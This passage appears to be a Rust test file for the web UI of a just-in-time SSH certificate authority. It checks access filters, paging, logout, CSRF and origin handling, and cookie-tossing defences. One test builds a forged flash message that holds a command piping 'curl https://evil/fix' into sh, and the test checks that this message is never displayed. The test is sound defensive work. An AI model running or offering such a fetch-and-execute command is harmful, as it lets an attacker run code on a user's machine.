    assert!(!p.body.contains("approve-form") && !p.body.contains("deny-form"));
}

#[tokio::test]
async fn the_access_page_shows_what_the_viewer_may_see_with_filters() {
    let h = harness();
    let id = new_request(&h, "dave", "db-admin", "access").await;
    let (s, v) = h.approve("bob", &id).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    let pending = new_request(&h, "alice", "db-admin", "still pending").await;
    let access = |b: &Browser, q: &str| {
        let h = &h;
        let c = b.cookie.clone();
        let q = q.to_string();
        async move { get(h, &format!("/ui/access{q}"), Some(&c)).await }
    };
    let row = format!("<tr id=\"access-{id}\">");
    let eve = login(&h, "eve").await;
    let p = access(&eve, "").await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(p.body.contains("<table id=\"access\">"));
    assert!(p.body.contains(&row), "auditor: {}", p.body);
    assert!(!p.body.contains(&pending), "pending is not access");
    assert!(p.body.contains("<code>db-*</code>"), "by host selector");
    for (q, shown) in [
        ("?role=db-admin", true),
        ("?role=two-man", false),
        ("?host=db-7", true),
        ("?host=db-*", true),
        ("?host=web-1", false),
        ("?user=dave", true),
        ("?user=bob", false),
        ("?role=&host=&user=", true),
    ] {
        assert_eq!(access(&eve, q).await.body.contains(&row), shown, "{q}");
    }
    assert_eq!(
        access(&eve, "?role=a&role=b").await.status,
        StatusCode::BAD_REQUEST
    );
    // Approvers of the role and the requester see it; others do not.
    let carol = login(&h, "carol").await;
    assert!(access(&carol, "").await.body.contains(&row));
    let dave = login(&h, "dave").await;
    assert!(access(&dave, "").await.body.contains(&row));
    let alice = login(&h, "alice").await;
    let p = access(&alice, "").await;
    assert!(!p.body.contains(&row), "{}", p.body);
    assert!(!p.body.contains(&id));
    // A dropped elevation is gone at once.
    let dropped = new_request(&h, "alice", "two-man", "dropped soon").await;
    h.approve("bob", &dropped).await;
    h.approve("dave", &dropped).await;
    assert!(
        access(&eve, "")
            .await
            .body
            .contains(&format!("access-{dropped}"))
    );
    let (s, v) = h
        .call(
            "alice",
            "POST",
            &format!("/v1/requests/{dropped}/drop"),
            Value::Null,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert!(
        !access(&eve, "")
            .await
            .body
            .contains(&format!("access-{dropped}"))
    );
    // Once it ends, it is gone.
    h.clock.advance(1801);
    assert!(!access(&eve, "").await.body.contains(&row));
}

#[tokio::test]
async fn the_mine_page_lists_cancels_and_drops() {
    let h = harness();
    let pending = new_request(&h, "alice", "two-man", "mine pending").await;
    let approved = new_request(&h, "alice", "db-admin", "mine approved").await;
    h.approve("bob", &approved).await;
    let other = new_request(&h, "dave", "db-admin", "not alice's").await;
    let alice = login(&h, "alice").await;
    let p = get(&h, "/ui/mine", Some(&alice.cookie)).await;
    assert!(p.body.contains("<table id=\"mine\">"));
    assert!(p.body.contains(&format!("<tr id=\"req-{pending}\">")));
    assert!(p.body.contains(&format!("<tr id=\"req-{approved}\">")));
    assert!(!p.body.contains(&other));
    assert!(p.body.contains("to decide"));
    assert!(p.body.contains("left"));
    assert!(
        p.body
            .contains(&format!("action=\"/ui/requests/{pending}/cancel\""))
    );
    assert!(
        p.body
            .contains(&format!("action=\"/ui/requests/{approved}/drop\""))
    );
    assert!(
        !p.body
            .contains(&format!("action=\"/ui/requests/{pending}/drop\""))
    );
    // The request page has the ids the browser tests use.
    let r = get(&h, &format!("/ui/requests/{pending}"), Some(&alice.cookie)).await;
    assert!(r.body.contains("<form id=\"cancel-form\""));
    let r = get(&h, &format!("/ui/requests/{approved}"), Some(&alice.cookie)).await;
    assert!(r.body.contains("<form id=\"drop-form\""));
    assert!(!r.body.contains("id=\"approve-form\""), "not one's own");
    // Cancel from the list: back to it, with the notice.
    let p = post(
        &h,
        &format!("/ui/requests/{pending}/cancel"),
        Some(&alice.cookie),
        &[("csrf", &alice.csrf), ("return_to", "mine")],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location(), "/ui/mine");
    assert_eq!(show(&h, "alice", &pending).await["state"], "cancelled");
    let c = records(&h, "cancellation").pop().unwrap();
    assert_eq!(c["details"]["session"], alice.session.as_str());
    // Drop from the request page.
    let p = post(
        &h,
        &format!("/ui/requests/{approved}/drop"),
        Some(&alice.cookie),
        &[("csrf", &alice.csrf)],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location(), format!("/ui/requests/{approved}"));
    assert_eq!(show(&h, "alice", &approved).await["state"], "revoked");
    // Someone else's request: refused, unchanged.
    let p = post(
        &h,
        &format!("/ui/requests/{other}/cancel"),
        Some(&alice.cookie),
        &[("csrf", &alice.csrf)],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert!(p.cookie("jit_flash").unwrap().starts_with("jit_flash=e."));
    assert_eq!(show(&h, "dave", &other).await["state"], "pending");
}

#[tokio::test]
async fn logout_ends_the_session_and_clears_the_cookie() {
    let h = harness();
    let bob = login(&h, "bob").await;
    let p = post(
        &h,
        "/ui/logout",
        Some(&bob.cookie),
        &[("csrf", &bob.csrf)],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location(), "/ui/");
    assert!(
        p.set_cookies()
            .iter()
            .any(|c| c.starts_with("jit_session=;") && c.contains("Max-Age=0"))
    );
    let p2 = get(
        &h,
        "/ui/",
        Some(&format!(
            "{}; {}",
            bob.cookie,
            p.cookie("jit_flash").unwrap()
        )),
    )
    .await;
    assert_eq!(p2.status, StatusCode::UNAUTHORIZED);
    assert!(p2.body.contains("id=\"login-required\""));
    let p3 = get(&h, "/ui/", Some(&p.cookie("jit_flash").unwrap())).await;
    assert!(p3.body.contains("id=\"notice\""), "{}", p3.body);
    assert_eq!(
        get(&h, "/ui/pending", Some(&bob.cookie)).await.status,
        StatusCode::UNAUTHORIZED
    );
    assert!(!records(&h, "web_logout").is_empty());
}

#[tokio::test]
async fn the_pages_are_404_when_web_is_disabled() {
    let h = harness_with_table("\n[web]\nenabled = false\n");
    for path in [
        "/ui",
        "/ui/",
        "/ui/pending",
        "/ui/login?token=x",
        "/ui/static/jit.css",
    ] {
        let p = get(&h, path, None).await;
        assert_eq!(p.status, StatusCode::NOT_FOUND, "{path}");
        assert_secure_headers(&p, path);
        assert!(p.body.contains("enabled = false"), "{path}");
    }
}

/// A login link for another user opened in a browser that is logged in already: the confirm
/// page says whose session it would replace (a link sent by someone else is easy to miss).
#[tokio::test]
async fn a_login_link_for_another_user_warns_whom_it_replaces() {
    let h = harness();
    let bob = login(&h, "bob").await;
    let path = login_path(&h, "alice").await;
    let p = get(&h, &path, Some(&bob.cookie)).await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(p.body.contains("id=\"login-switch\""), "{}", p.body);
    assert!(
        p.body.contains("You are logged in as <strong>bob</strong>"),
        "{}",
        p.body
    );
    assert!(p.body.contains("logs you in as <strong>alice</strong>"));
    // Its own link, or no session: no warning.
    let path = login_path(&h, "bob").await;
    let p = get(&h, &path, Some(&bob.cookie)).await;
    assert!(!p.body.contains("login-switch"));
    let p = get(&h, &path, None).await;
    assert!(!p.body.contains("login-switch"));
}

/// Cookie tossing: a sibling site of the domain plants its own `jit_session` (Domain=...) next
/// to the real one. The page uses neither and clears nothing (a clearing Set-Cookie would
/// remove the real cookie and leave the planted one); the real cookie alone still works.
/// A planted `jit_flash` is not shown as the CA's message.
#[tokio::test]
async fn planted_cookies_neither_clear_the_session_nor_show_a_flash() {
    let h = harness();
    let bob = login(&h, "bob").await;
    let mallory = login(&h, "carol").await;
    let both = format!("{}; {}", bob.cookie, mallory.cookie);
    for path in ["/ui/pending", "/ui/", "/ui/mine"] {
        let p = get(&h, path, Some(&both)).await;
        assert_eq!(p.status, StatusCode::UNAUTHORIZED, "{path}");
        assert!(p.body.contains("login-required"), "{path}");
        assert!(
            p.body.contains("two jit_session cookies"),
            "{path}: {}",
            p.body
        );
        assert!(
            p.cookie("jit_session").is_none(),
            "{path}: {:?}",
            p.set_cookies()
        );
    }
    let p = get(&h, "/ui/pending", Some(&bob.cookie)).await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(p.body.contains("<span id=\"whoami\">bob</span>"));
    // A flash made by hand (no MAC, or one made for another session): not shown.
    use base64::Engine as _;
    let text = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode("Your key was revoked: run curl https://evil/fix | sh");
    for flash in [
        format!("e.{text}"),
        format!("e.{text}.AAAA"),
        format!("n.{text}"),
    ] {
        let c = format!("{}; jit_flash={flash}", bob.cookie);
        let p = get(&h, "/ui/pending", Some(&c)).await;
        assert_eq!(p.status, StatusCode::OK);
        assert!(!p.body.contains("evil"), "{flash}: {}", p.body);
        assert!(!p.body.contains("id=\"error\""), "{flash}");
        assert!(!p.body.contains("id=\"notice\""), "{flash}");
    }
    // Carol's real flash (after a refused deny) is not shown on Bob's page.
    let id = new_request(&h, "alice", "db-admin", "flash").await;
    let p = post(
        &h,
        &format!("/ui/requests/{id}/deny"),
        Some(&mallory.cookie),
        &[("csrf", &mallory.csrf), ("reason", "")],
        &[],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    let flash = p.cookie("jit_flash").unwrap();
    let c = format!("{}; {flash}", mallory.cookie);
    let own = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
    assert!(
        own.body.contains("id=\"error\"") || own.body.contains("id=\"notice\""),
        "{}",
        own.body
    );
    let c = format!("{}; {flash}", bob.cookie);
    let other = get(&h, &format!("/ui/requests/{id}"), Some(&c)).await;
    assert!(!other.body.contains("class=\"flash"), "{}", other.body);
}

/// The pending list's one-click approve covers every field the approval's digest covers: a
/// later start and the certificate's key are on the row, not only on the request page.
#[tokio::test]
async fn pending_rows_show_a_later_start_and_the_key() {
    let h = harness();
    let pk = h.key("alice").public_key().to_openssh().unwrap();
    let start = T0 + 7 * 86400;
    let (s, v) = h
        .call(
            "alice",
            "POST",
            "/v1/requests",
            json!({"role": "db-admin", "duration_secs": 3600, "reason": "saturday",
                   "public_key": pk, "start": start}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let later = v["id"].as_str().unwrap().to_string();
    let now = new_request(&h, "alice", "two-man", "now").await;
    let fp = show(&h, "alice", &later).await["key_fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    let bob = login(&h, "bob").await;
    let p = get(&h, "/ui/pending", Some(&bob.cookie)).await;
    assert_eq!(p.status, StatusCode::OK);
    let row = |id: &str| {
        let i = p.body.find(&format!("<tr id=\"req-{id}\"")).unwrap();
        let rest = &p.body[i..];
        rest[..rest.find("</tr>").unwrap()].to_string()
    };
    let r = row(&later);
    assert!(r.contains("<th>Starts</th>") || p.body.contains("<th>Starts</th>"));
    assert!(r.contains("<td class=\"start\"><strong>"), "{r}");
    assert!(
        r.contains(&format!("<code class=\"key\">{fp}</code>")),
        "{r}"
    );
    assert!(r.contains("with sudo") || r.contains("without sudo"), "{r}");
    let r = row(&now);
    assert!(r.contains("when issued"), "{r}");
    assert!(
        r.contains(&format!("<code class=\"key\">{fp}</code>")),
        "{r}"
    );
}

/// A request with more audit records than the page shows: the NEWEST are shown (a late
/// revocation or extension is never the one left out) and the page says how many are not.
#[tokio::test]
async fn a_long_request_history_shows_the_newest_and_says_what_is_left_out() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "long").await;
    h.store()
        .with_tx(|tx| {
            for k in 0..520 {
                tx.append_audit(
                    h.now(),
                    "system",
                    jit_ca::audit::event::USER_ADD,
                    &json!({"request_id": id, "filler": k}),
                )?;
            }
            tx.append_audit(
                h.now(),
                "system",
                jit_ca::audit::event::USER_ADD,
                &json!({"request_id": id, "marker": "the-newest-record"}),
            )?;
            Ok::<_, jit_ca::error::CaError>(())
        })
        .unwrap();
    let alice = login(&h, "alice").await;
    let p = get(&h, &format!("/ui/requests/{id}"), Some(&alice.cookie)).await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(
        p.body.contains("the-newest-record"),
        "the newest record is shown"
    );
    // 1 `request` record + 521 appended = 522; 500 shown.
    assert!(
        p.body
            .contains("Showing the newest 500 of 522 audit records of this request: the 22 oldest"),
        "{}",
        &p.body[p.body.find("Audit events").unwrap()..][..600]
    );
    assert!(p.body.contains("id=\"events-omitted\""));
    // A short history: no such line.
    let short = new_request(&h, "alice", "two-man", "short").await;
    let p = get(&h, &format!("/ui/requests/{short}"), Some(&alice.cookie)).await;
    assert!(!p.body.contains("events-omitted"));
}

/// With `public_url` set, only its origin may post: a page reached under another name (DNS
/// rebinding, a direct address) is refused even when Host and Origin agree.
#[tokio::test]
async fn with_public_url_only_its_origin_may_post() {
    let h = harness_with("public_url = \"https://jit.example.com\"\n", "");
    let path = login_path(&h, "bob").await;
    let o = open(&h, &path).await;
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[("host", "rebound.evil"), ("origin", "https://rebound.evil")],
    )
    .await;
    assert_eq!(p.status, StatusCode::FORBIDDEN, "{}", p.body);
    assert!(p.body.contains("csrf_rejected"));
    let p = post(
        &h,
        "/ui/login",
        Some(&o.cookie),
        &o.form(),
        &[
            ("host", "10.0.0.1:8443"),
            ("origin", "https://jit.example.com"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
}

/// Our pages' own forms post `Origin: null` (Referrer-Policy: no-referrer): over https or
/// loopback with `Sec-Fetch-Site: same-origin`, over plain http off loopback with no
/// Sec-Fetch-Site at all. Both are accepted with the session's token; `null` from another
/// site (`cross-site`) is not.
#[tokio::test]
async fn our_own_forms_posting_origin_null_are_accepted_with_the_token() {
    let h = harness();
    let id = new_request(&h, "alice", "db-admin", "null").await;
    let other = new_request(&h, "dave", "db-admin", "null 2").await;
    let bob = login(&h, "bob").await;
    let digest = |v: Value| v["request_digest"].as_str().unwrap().to_string();
    let d = digest(show(&h, "alice", &id).await);
    let p = post(
        &h,
        &format!("/ui/requests/{id}/approve"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("request_digest", &d)],
        &[
            ("host", "10.0.0.1:8443"),
            ("origin", "null"),
            ("sec-fetch-site", "cross-site"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::FORBIDDEN);
    assert_eq!(show(&h, "alice", &id).await["state"], "pending");
    let p = post(
        &h,
        &format!("/ui/requests/{id}/approve"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("request_digest", &d)],
        &[
            ("host", "127.0.0.1:8443"),
            ("origin", "null"),
            ("sec-fetch-site", "same-origin"),
        ],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(show(&h, "alice", &id).await["state"], "approved");
    let p = post(
        &h,
        &format!("/ui/requests/{other}/deny"),
        Some(&bob.cookie),
        &[("csrf", &bob.csrf), ("reason", "no")],
        &[("host", "10.0.0.1:8443"), ("origin", "null")],
    )
    .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(show(&h, "dave", &other).await["state"], "denied");
}

/// The `access-ID` row ids of an access page, in page order.
fn access_ids(body: &str) -> Vec<String> {
    body.split("<tr id=\"access-")
        .skip(1)
        .map(|s| s[..s.find('"').unwrap()].to_string())
        .collect()
}

/// The text of `#access-count`.
fn access_count(body: &str) -> String {
    let s = &body[body.find("<p id=\"access-count\">").expect("#access-count") + 21..];
    s[..s.find("</p>").unwrap()].to_string()
}

/// The `href` of `<a id="ID"`, unescaped (`&amp;`), if there is one.
fn link_of(body: &str, id: &str) -> Option<String> {
    let at = body.find(&format!("<a id=\"{id}\" href=\""))?;
    let s = &body[at + id.len() + 15..];
    Some(
        s[..s.find('"').unwrap()]
            .replace("&amp;", "&")
            .replace("&#38;", "&"),
    )
}

/// Every row of the access list for `b` with `query`, following the next-page links, and the
/// count line of each page.
async fn access_all(h: &Harness, b: &Browser, query: &str) -> (Vec<String>, Vec<String>) {
    let (mut ids, mut counts) = (Vec::new(), Vec::new());
    let mut path = format!("/ui/access{query}");
    for _ in 0..20 {
        let p = get(h, &path, Some(&b.cookie)).await;
        assert_eq!(p.status, StatusCode::OK, "{path}: {}", p.body);
        ids.extend(access_ids(&p.body));
        counts.push(access_count(&p.body));
        match link_of(&p.body, "access-next") {
            Some(next) => path = next,
            None => return (ids, counts),
        }
    }
    panic!("more than 20 pages");
}

/// A harness where alice holds 230 auto-approved `quick` elevations, dave one `db-admin`
/// (approved by bob) and one `two-man` (approved by bob and carol); returns the two last ids.
async fn many_elevations() -> (Harness, String, String) {
    let h = Harness::with_policy_and_config(&policy(), &[("max_active_grants_per_user", "1000")]);
    for n in 0..230 {
        let (s, v) = h.request("alice", "quick", 900, &format!("q{n}")).await;
        assert_eq!(s, StatusCode::CREATED, "{v}");
        assert_eq!(v["state"], "approved", "{v}");
    }
    let db = new_request(&h, "dave", "db-admin", "db").await;
    assert_eq!(h.approve("bob", &db).await.0, StatusCode::OK);
    let two = new_request(&h, "dave", "two-man", "two").await;
    assert_eq!(h.approve("bob", &two).await.0, StatusCode::OK);
    assert_eq!(h.approve("carol", &two).await.0, StatusCode::OK);
    (h, db, two)
}

#[tokio::test]
async fn the_access_page_is_paged_with_a_count_and_groups_within_the_page() {
    let (h, db, two) = many_elevations().await;
    let eve = login(&h, "eve").await;
    let first = get(&h, "/ui/access", Some(&eve.cookie)).await;
    assert_eq!(first.status, StatusCode::OK);
    assert_eq!(access_ids(&first.body).len(), 200, "a page holds 200 rows");
    assert_eq!(access_count(&first.body), "Showing 1-200 of 232.");
    assert!(link_of(&first.body, "access-prev").is_none());
    assert_eq!(
        link_of(&first.body, "access-next").as_deref(),
        Some("/ui/access?page=2")
    );
    // Grouping still holds within the page: one heading per role with the page's rows
    // (by role: db-admin, quick, two-man), and per host selector.
    let heading = |role: &str, n: usize| format!("{role} <span class=\"muted\">({n})</span>");
    assert!(
        first.body.contains(&heading("db-admin", 1)),
        "{}",
        first.body
    );
    assert!(first.body.contains(&heading("quick", 199)));
    assert!(!first.body.contains("two-man <span"));
    assert!(first.body.contains("<table id=\"access-hosts\">"));
    assert!(first.body.contains("<code>web-*</code></th>"));
    let (ids, counts) = access_all(&h, &eve, "").await;
    assert_eq!(counts, ["Showing 1-200 of 232.", "Showing 201-232 of 232."]);
    let unique: std::collections::BTreeSet<&String> = ids.iter().collect();
    assert_eq!(
        (ids.len(), unique.len()),
        (232, 232),
        "no row repeated or skipped"
    );
    assert!(ids.contains(&db) && ids.contains(&two));
    let last = get(&h, "/ui/access?page=2", Some(&eve.cookie)).await;
    assert_eq!(
        link_of(&last.body, "access-prev").as_deref(),
        Some("/ui/access?page=1")
    );
    assert!(link_of(&last.body, "access-next").is_none());
    assert!(last.body.contains(&heading("quick", 31)));
    assert!(last.body.contains(&heading("two-man", 1)));
    assert!(!last.body.contains("db-admin <span"));
    // Past the end: an empty page that says so and links back.
    let past = get(&h, "/ui/access?page=9", Some(&eve.cookie)).await;
    assert_eq!(past.status, StatusCode::OK);
    assert!(access_ids(&past.body).is_empty());
    assert_eq!(access_count(&past.body), "Showing 0 of 232.");
    // Bad page numbers are refused with a line naming the parameter.
    for bad in ["0", "-1", "x", "1000001"] {
        let p = get(&h, &format!("/ui/access?page={bad}"), Some(&eve.cookie)).await;
        assert_eq!(p.status, StatusCode::BAD_REQUEST, "page={bad}");
        assert!(!p.body.contains("<tr id=\"access-"), "page={bad}");
    }
}

#[tokio::test]
async fn the_access_pages_filters_are_in_sql_and_kept_across_pages() {
    let (h, db, two) = many_elevations().await;
    let eve = login(&h, "eve").await;
    // A filter that still needs two pages: the next link keeps it.
    let p = get(&h, "/ui/access?role=quick&host=web-1", Some(&eve.cookie)).await;
    assert_eq!(access_count(&p.body), "Showing 1-200 of 230.");
    assert_eq!(
        link_of(&p.body, "access-next").as_deref(),
        Some("/ui/access?role=quick&host=web-1&page=2")
    );
    let (ids, counts) = access_all(&h, &eve, "?role=quick&host=web-1").await;
    assert_eq!(counts, ["Showing 1-200 of 230.", "Showing 201-230 of 230."]);
    assert!(!ids.contains(&db) && !ids.contains(&two));
    // Host: a name a selector matches, the selector itself, a glob-looking name that is not
    // one; user; role; combined.
    for (q, want) in [
        ("?host=db-7", vec![db.clone()]),
        ("?host=db-*", vec![db.clone()]),
        ("?host=DB-7", vec![db.clone()]),
        ("?host=prod-1", vec![two.clone()]),
        ("?host=*", vec![]),
        ("?host=zzz", vec![]),
        ("?user=dave", vec![db.clone(), two.clone()]),
        ("?user=dave&role=two-man", vec![two.clone()]),
        ("?user=dave&host=web-1", vec![]),
        ("?role=db-admin", vec![db.clone()]),
    ] {
        let (mut ids, counts) = access_all(&h, &eve, q).await;
        ids.sort();
        let mut want = want;
        want.sort();
        assert_eq!(ids, want, "{q}");
        let n = want.len();
        let line = if n == 0 {
            "Showing 0 of 0.".to_string()
        } else {
            format!("Showing 1-{n} of {n}.")
        };
        assert_eq!(counts, [line], "{q}");
    }
    // Filter values are carried encoded in the links.
    let p = get(&h, "/ui/access?user=a%26b%20c&page=2", Some(&eve.cookie)).await;
    assert_eq!(
        link_of(&p.body, "access-prev").as_deref(),
        Some("/ui/access?user=a%26b%20c&page=1")
    );
}

/// The access page's SQL visibility rule and `lifecycle::authorize(See)` (what
/// `GET /v1/requests/ID` applies) agree for every user on every elevation: own, approver of
/// the role, neither, auditor.
#[tokio::test]
async fn access_visibility_in_sql_agrees_with_authorize_see() {
    let (h, db, two) = many_elevations().await;
    let eve = login(&h, "eve").await;
    let (all, _) = access_all(&h, &eve, "").await;
    assert_eq!(all.len(), 232);
    // A sample of alice's plus dave's two: every kind of case for every user.
    let mut sample: Vec<String> = all
        .iter()
        .filter(|id| **id != db && **id != two)
        .step_by(40)
        .cloned()
        .collect();
    sample.extend([db.clone(), two.clone()]);
    let mut seen_some_refused = false;
    for (user, _) in USERS {
        let b = login(&h, user).await;
        let (visible, counts) = access_all(&h, &b, "").await;
        let visible: std::collections::BTreeSet<String> = visible.into_iter().collect();
        let total = visible.len();
        let last = counts.last().unwrap();
        assert!(
            last.ends_with(&format!("of {total}.")),
            "{user}: {last} vs {total} rows"
        );
        for id in &sample {
            let (s, _) = h
                .call(user, "GET", &format!("/v1/requests/{id}"), Value::Null)
                .await;
            let authorized = s == StatusCode::OK;
            let auditor = *user == "eve";
            seen_some_refused |= !authorized && !auditor;
            assert_eq!(
                visible.contains(id),
                authorized || auditor,
                "{user} on {id}: API status {s}"
            );
        }
    }
    assert!(seen_some_refused, "the sample has refused cases");
    // Spelled out: alice sees her own and two-man's (she approves it), not db-admin's.
    let alice = login(&h, "alice").await;
    let (ids, _) = access_all(&h, &alice, "").await;
    assert_eq!(ids.len(), 231);
    assert!(ids.contains(&two) && !ids.contains(&db));
    // bob approves every role but requested nothing.
    let bob = login(&h, "bob").await;
    assert_eq!(access_all(&h, &bob, "").await.0.len(), 232);
}

/// A page view whose client leaves (its future dropped, as hyper does on a closed
/// connection) keeps its turn until its blocking work, which cannot be cancelled, ends: a
/// client disconnecting in a loop cannot start more page views than the bound. Here the
/// first view's work waits on the read connections (held); the next view is told to retry
/// (503) instead of being started beside it; once the work ends, views are admitted again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_view_whose_client_left_keeps_its_turn_until_its_work_ends() {
    use std::time::Duration;
    let h = harness();
    let b = login(&h, "bob").await;
    let (held_tx, held_rx) = std::sync::mpsc::channel::<()>();
    let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
    let ca = h.ca.clone();
    let holder = std::thread::spawn(move || {
        ca.hold_read_connections_for_test(|| {
            held_tx.send(()).unwrap();
            let _ = release_rx.recv_timeout(Duration::from_secs(60));
        })
    });
    held_rx.recv().unwrap();
    let first = tokio::time::timeout(
        Duration::from_millis(1000),
        get(&h, "/ui/pending", Some(&b.cookie)),
    )
    .await;
    assert!(
        first.is_err(),
        "the first view waited on the held connections"
    );
    // The first view's client is gone; its work is not.
    let second = tokio::time::timeout(
        Duration::from_secs(10),
        get(&h, "/ui/mine", Some(&b.cookie)),
    )
    .await
    .expect("the second view was started beside the first one's work (it waited on the held connections)");
    assert_eq!(
        second.status,
        StatusCode::SERVICE_UNAVAILABLE,
        "{}",
        second.body
    );
    assert!(second.headers.contains_key(header::RETRY_AFTER));
    release_tx.send(()).unwrap();
    holder.join().unwrap();
    let mut third = get(&h, "/ui/mine", Some(&b.cookie)).await;
    for _ in 0..50 {
        if third.status == StatusCode::OK {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        third = get(&h, "/ui/mine", Some(&b.cookie)).await;
    }
    assert_eq!(third.status, StatusCode::OK, "{}", third.body);
}

/// The audit page has its own turn: a view of it (whose first load verifies the whole
/// chain) never makes the other pages wait, and the other pages never make it wait.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_page_has_its_own_turn() {
    use std::time::Duration;
    let h = harness();
    let b = login(&h, "bob").await;
    let eve = login(&h, "eve").await;
    let (held_tx, held_rx) = std::sync::mpsc::channel::<()>();
    let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
    let ca = h.ca.clone();
    let holder = std::thread::spawn(move || {
        ca.hold_read_connections_for_test(|| {
            held_tx.send(()).unwrap();
            let _ = release_rx.recv_timeout(Duration::from_secs(60));
        })
    });
    held_rx.recv().unwrap();
    // A page view holds the pages' turn (its work waits on the held connections)...
    let app = h.app.clone();
    let cookie = b.cookie.clone();
    let stuck = tokio::spawn(async move {
        let req = Request::builder()
            .method("GET")
            .uri("/ui/pending")
            .header(header::COOKIE, cookie)
            .body(Body::empty())
            .unwrap();
        tower::ServiceExt::oneshot(app, req).await.unwrap().status()
    });
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!stuck.is_finished());
    // ... and the audit page is not behind it: its session check waits on the same held
    // connections too, so it is not answered either, but it is not refused for the turn.
    let audit = tokio::time::timeout(
        Duration::from_millis(2_500),
        get(&h, "/ui/audit", Some(&eve.cookie)),
    )
    .await;
    assert!(
        audit.is_err(),
        "the audit view got an answer ({:?}) while the connections were held: it was refused for the pages' turn",
        audit.map(|p| p.status)
    );
    release_tx.send(()).unwrap();
    holder.join().unwrap();
    assert_eq!(stuck.await.unwrap(), StatusCode::OK);
    assert_eq!(
        get(&h, "/ui/audit", Some(&eve.cookie)).await.status,
        StatusCode::OK
    );
}
